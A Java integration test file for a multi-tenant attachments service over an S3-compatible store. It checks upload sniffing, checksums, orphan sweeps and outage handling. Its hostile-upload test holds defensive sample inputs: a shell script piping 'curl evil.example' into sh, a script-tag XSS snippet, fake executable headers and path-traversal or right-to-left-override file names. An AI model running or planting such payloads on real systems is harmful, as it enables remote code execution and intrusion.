package platform.attachments;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.UUID;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.web.bind.annotation.PostMapping;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RestController;

import jobs.Job;
import platform.Attachment;
import platform.AttachmentContent;
import platform.AttachmentMaintenance;
import platform.Attachments;
import platform.DomainException;
import platform.JmlHubApplication;
import platform.ObjectStore;
import platform.ObjectStoreUnavailableException;
import platform.StartupRefusedException;
import platform.TenantTransactions;
import platform.testing.S3Server;
import platform.testing.TestTenants;

/**
 * Attachments in the running application over a real S3-compatible server (s3rver, its own
 * process): stored and verified, refused when hostile (with nothing kept), swept when orphaned, and
 * the store going away under the running application ({@code /readyz} down, uploads 503 with
 * {@code Retry-After}, no row) and coming back; a worker whose store does not answer does not start.
 */
@ExtendWith(OutputCaptureExtension.class)
class AttachmentsTests {

	static S3Server s3;
	static ConfigurableApplicationContext app;
	static Attachments attachments;
	static ObjectStore store;
	static TenantTransactions tenants;
	static JdbcClient jdbc;
	static String tenant;

	@BeforeAll
	static void start() {
		s3 = S3Server.startNew();
		List<String> args = new ArrayList<>(s3.variables());
		args.add("--jmlhub.dispatch.enabled=false");
		app = new SpringApplicationBuilder(JmlHubApplication.class).run(args.toArray(String[]::new));
		attachments = app.getBean(Attachments.class);
		store = app.getBean(ObjectStore.class);
		tenants = app.getBean(TenantTransactions.class);
		jdbc = app.getBean(JdbcClient.class);
		tenant = TestTenants.create(tenants, jdbc, "attach", "alice");
	}

	@AfterAll
	static void stop() {
		if (app != null) {
			app.close();
		}
		if (s3 != null) {
			s3.close();
		}
	}

	static final byte[] PDF = "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
		.getBytes(StandardCharsets.US_ASCII);

	@Test
	void anUploadIsStoredUnderARandomKeyWithItsSniffedTypeAndChecksumAndComesBackVerified() throws Exception {
		String owner = UUID.randomUUID().toString();
		Attachment stored = attachments.store(tenant, "access_request", owner, "../../etc/passwd/Quarterly report.pdf",
				"application/octet-stream", new ByteArrayInputStream(PDF), "alice");

		assertThat(stored.filename()).isEqualTo("Quarterly report.pdf");
		assertThat(stored.contentType()).isEqualTo("application/pdf");
		assertThat(stored.size()).isEqualTo(PDF.length);
		assertThat(stored.sha256()).isEqualTo(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(PDF)));
		assertThat(stored.uploadedBy()).isEqualTo("alice");
		assertThat(attachments.list(tenant, "access_request", owner)).containsExactly(stored);
		assertThat(attachments.find(tenant, stored.id())).contains(stored);
		assertThat(attachments.find("acme", stored.id())).as("another tenant's").isEmpty();
		assertThatThrownBy(() -> attachments.open("acme", stored.id())).isInstanceOf(DomainException.NotFound.class);

		String key = objectKey(stored.id());
		assertThat(key).matches("attachments/[0-9a-f-]{36}").doesNotContainIgnoringCase("report");
		try (InputStream object = store.open(key).orElseThrow()) {
			assertThat(object.readAllBytes()).as("the bytes in the bucket").isEqualTo(PDF);
		}
		try (AttachmentContent content = attachments.open(tenant, stored.id())) {
			assertThat(content.attachment()).isEqualTo(stored);
			assertThat(content.content().readAllBytes()).isEqualTo(PDF);
		}
	}

	@Test
	void aStoredObjectThatNoLongerMatchesItsChecksumIsAnErrorNotItsBytes() {
		Attachment stored = attachments.store(tenant, "access_request", UUID.randomUUID().toString(), "notes.txt", "text/plain",
				new ByteArrayInputStream("approved by the CFO".getBytes(StandardCharsets.UTF_8)), "alice");
		String key = objectKey(stored.id());
		store.put(key, "approved by nobody".getBytes(StandardCharsets.UTF_8), "text/plain");
		assertThatThrownBy(() -> attachments.open(tenant, stored.id())).isInstanceOf(IllegalStateException.class)
			.hasMessageContaining("SHA-256").hasMessageContaining(stored.sha256());

		store.delete(key);
		assertThatThrownBy(() -> attachments.open(tenant, stored.id())).isInstanceOf(IllegalStateException.class)
			.hasMessageContaining("missing");
	}

	@Test
	void hostileUploadsAreRefusedWhateverTheyAreCalledAndNothingIsKept() {
		String owner = UUID.randomUUID().toString();
		int objectsBefore = store.list("attachments/", Instant.now().plusSeconds(60)).size();

		byte[] windows = new byte[512];
		windows[0] = 'M';
		windows[1] = 'Z';
		assertRefused(owner, "invoice.pdf", "application/pdf", windows, DomainException.UnsupportedType.class, "Windows executable");
		assertRefused(owner, "photo.png", "image/png", new byte[] { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0 },
				DomainException.UnsupportedType.class, "ELF");
		assertRefused(owner, "readme.txt", "text/plain", "#!/bin/sh\ncurl evil.example | sh\n".getBytes(StandardCharsets.UTF_8),
				DomainException.UnsupportedType.class, "script");
		assertRefused(owner, "page.txt", "text/plain", "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8),
				DomainException.UnsupportedType.class, "markup");
		assertRefused(owner, "report.docx", "application/zip", zipWithFirstEntry("payload.exe"),
				DomainException.UnsupportedType.class, "archive");
		assertRefused(owner, "blob.pdf", "application/pdf", new byte[] { 0, 1, 2, 3, 4, 5 }, DomainException.UnsupportedType.class,
				"not accepted");
		assertRefused(owner, "empty.txt", "text/plain", new byte[0], DomainException.InvalidInput.class, "invalid");

		// 100 MB announced as a PDF: reading stops just past the limit, nothing of it is kept
		CountingStream hundredMegabytes = new CountingStream(100L * 1024 * 1024, PDF);
		assertThatThrownBy(() -> attachments.store(tenant, "access_request", owner, "big.pdf", "application/pdf",
				hundredMegabytes, "alice"))
			.isInstanceOf(DomainException.TooLarge.class);
		assertThat(hundredMegabytes.read).isGreaterThan(attachments.maxSize()).isLessThan(attachments.maxSize() + 65_536);

		assertThat(attachments.list(tenant, "access_request", owner)).isEmpty();
		assertThat(store.list("attachments/", Instant.now().plusSeconds(60))).hasSize(objectsBefore);

		// an Office document is a zip that starts with its content types; a renamed one names the path's last part only
		Attachment document = attachments.store(tenant, "access_request", owner, "C:\\Users\\bob\\Desktop\\plan\u202Excod.docx",
				null, new ByteArrayInputStream(zipWithFirstEntry("[Content_Types].xml")), "alice");
		assertThat(document.filename()).isEqualTo("planxcod.docx");
		assertThat(document.contentType()).isEqualTo("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
		Attachment csv = attachments.store(tenant, "access_request", owner, "line\nbreak\t.csv", "text/csv",
				new ByteArrayInputStream("name;group\nada;finance\n".getBytes(StandardCharsets.UTF_8)), "alice");
		assertThat(csv.filename()).isEqualTo("linebreak.csv");
		assertThat(csv.contentType()).isEqualTo("text/csv");
	}

	@Test
	void theSweepDeletesOnlyOldObjectsNoRowNamesUnderTheAttachmentsPrefix() throws Exception {
		Attachment kept = attachments.store(tenant, "access_request", UUID.randomUUID().toString(), "kept.pdf", null,
				new ByteArrayInputStream(PDF), "alice");
		String orphan = "attachments/" + UUID.randomUUID();
		String elsewhere = "other/" + UUID.randomUUID();
		store.put(orphan, "left behind by a rolled-back upload".getBytes(StandardCharsets.UTF_8), "text/plain");
		store.put(elsewhere, "not an attachment".getBytes(StandardCharsets.UTF_8), "text/plain");

		// the job: its grace (1 h) protects an upload between its object and its row
		app.getBean("attachmentOrphanSweepJob", Job.class).run();
		assertThat(store.open(orphan)).as("younger than the grace").isPresent().get().satisfies(InputStream::close);

		int deleted = app.getBean(AttachmentMaintenance.class).sweepOrphans(Instant.now().plusSeconds(5));
		assertThat(deleted).isGreaterThanOrEqualTo(1);
		assertThat(store.open(orphan)).isEmpty();
		try (InputStream other = store.open(elsewhere).orElseThrow()) {
			assertThat(other.readAllBytes()).isNotEmpty();
		}
		try (AttachmentContent content = attachments.open(tenant, kept.id())) {
			assertThat(content.content().readAllBytes()).isEqualTo(PDF);
		}
	}

	/** The web layer's answer to an upload, with the application's own exception handler. */
	@RestController
	class UploadEndpoint {

		@PostMapping("/v1/uploads")
		Attachment upload(@RequestBody byte[] body) {
			return attachments.store(tenant, "access_request", "web", "upload.pdf", "application/pdf",
					new ByteArrayInputStream(body), "alice");
		}
	}

	@Test
	void whileTheStoreIsAwayReadinessIsDownUploadsAnswer503WithRetryAfterAndNothingIsWrittenThenItComesBack(
			CapturedOutput output) throws Exception {
		assertThat(readyz().statusCode()).isEqualTo(200);
		assertThat(readyz().body()).contains("\"objectstore\":{\"status\":\"UP\"}");
		MockMvc web = MockMvcBuilders.standaloneSetup(new UploadEndpoint())
			.setControllerAdvice(app.getBean(Class.forName("platform.web.ApiExceptionHandler")))
			.build();
		String owner = UUID.randomUUID().toString();

		s3.stop();
		try {
			HttpResponse<String> down = readyz();
			assertThat(down.statusCode()).isEqualTo(503);
			assertThat(down.body()).contains("\"objectstore\":{\"status\":\"DOWN\"}").contains("\"db\":{\"status\":\"UP\"}");
			assertThatThrownBy(() -> attachments.store(tenant, "access_request", owner, "during.pdf", null,
					new ByteArrayInputStream(PDF), "alice"))
				.isInstanceOf(ObjectStoreUnavailableException.class);
			web.perform(post("/v1/uploads").content(PDF).contentType("application/octet-stream"))
				.andExpect(status().isServiceUnavailable())
				.andExpect(header().string("Retry-After", "5"))
				.andExpect(jsonPath("$.type").value("https://jmlhub.dev/problems/objectstore-unavailable"));
			assertThat(attachments.list(tenant, "access_request", owner)).as("no row").isEmpty();
			assertThat(attachments.list(tenant, "access_request", "web")).as("no row").isEmpty();
		}
		finally {
			s3.start();
		}
		await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(readyz().statusCode()).isEqualTo(200));
		web.perform(post("/v1/uploads").content(PDF).contentType("application/octet-stream")).andExpect(status().isOk());
		web.perform(post("/v1/uploads").content(new byte[] { 'M', 'Z', 0 }).contentType("application/octet-stream"))
			.andExpect(status().isUnsupportedMediaType())
			.andExpect(jsonPath("$.type").value("https://jmlhub.dev/problems/unsupported-media-type"));
		assertThat(attachments.list(tenant, "access_request", "web")).hasSize(1);
		String component = "Object store (S3 bucket attachments at " + s3.endpoint() + ")";
		assertThat(output.getOut()).contains(component + " unavailable since").contains(component + " available again after");
	}

	@Test
	void aWorkerWhoseStoreDoesNotAnswerRefusesToStartWithOneMessage() throws IOException {
		int dead;
		try (ServerSocket socket = new ServerSocket(0)) {
			dead = socket.getLocalPort();
		}
		String endpoint = "http://127.0.0.1:" + dead;
		assertThatThrownBy(() -> new SpringApplicationBuilder(JmlHubApplication.class).run("--OBJECTSTORE_KIND=s3",
				"--OBJECTSTORE_S3_ENDPOINT=" + endpoint, "--OBJECTSTORE_S3_BUCKET=attachments",
				"--OBJECTSTORE_S3_ACCESS_KEY=x", "--OBJECTSTORE_S3_SECRET_KEY=y", "--jmlhub.dispatch.enabled=false").close())
			.hasRootCauseInstanceOf(java.net.ConnectException.class)
			.satisfies(failure -> {
				StartupRefusedException refusal = cause(failure, StartupRefusedException.class);
				assertThat(refusal.problem()).contains("S3 bucket attachments at " + endpoint);
				assertThat(refusal.action()).contains("OBJECTSTORE_");
			});
	}

	private static <T extends Throwable> T cause(Throwable failure, Class<T> type) {
		for (Throwable t = failure; t != null; t = t.getCause()) {
			if (type.isInstance(t)) {
				return type.cast(t);
			}
		}
		throw new AssertionError("no " + type.getSimpleName() + " in " + failure);
	}

	private static void assertRefused(String owner, String name, String declared, byte[] bytes,
			Class<? extends DomainException> refusal, String message) {
		assertThatThrownBy(() -> attachments.store(tenant, "access_request", owner, name, declared,
				new ByteArrayInputStream(bytes), "alice"))
			.as(name)
			.isInstanceOf(refusal)
			.hasMessageContaining(message);
	}

	/** A zip whose first local entry has this name (the header is all the sniffer reads). */
	private static byte[] zipWithFirstEntry(String name) {
		var out = new java.io.ByteArrayOutputStream();
		try (var zip = new java.util.zip.ZipOutputStream(out)) {
			zip.putNextEntry(new java.util.zip.ZipEntry(name));
			zip.write("content".getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
		}
		catch (IOException e) {
			throw new java.io.UncheckedIOException(e);
		}
		return out.toByteArray();
	}

	private static String objectKey(UUID id) {
		return tenants.readInTenant(tenant, () -> jdbc.sql("SELECT object_key FROM platform_attachments WHERE id = :id")
			.param("id", id).query(String.class).single());
	}

	private static HttpResponse<String> readyz() throws Exception {
		int management = app.getEnvironment().getRequiredProperty("local.management.port", Integer.class);
		return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + management + "/readyz"))
			.timeout(Duration.ofSeconds(20)).build(), HttpResponse.BodyHandlers.ofString());
	}

	/** {@code size} bytes made on the fly (a header, then zeros), counting how many were read. */
	static final class CountingStream extends InputStream {

		private final long size;
		private final byte[] header;
		long read;

		CountingStream(long size, byte[] header) {
			this.size = size;
			this.header = header;
		}

		@Override
		public int read() {
			if (read >= size) {
				return -1;
			}
			int b = read < header.length ? header[(int) read] : 0;
			read++;
			return b & 0xff;
		}

		@Override
		public int read(byte[] buffer, int offset, int length) {
			if (read >= size) {
				return -1;
			}
			int n = (int) Math.min(length, size - read);
			for (int i = 0; i < n; i++) {
				buffer[offset + i] = read + i < header.length ? header[(int) (read + i)] : 0;
			}
			read += n;
			return n;
		}
	}
}
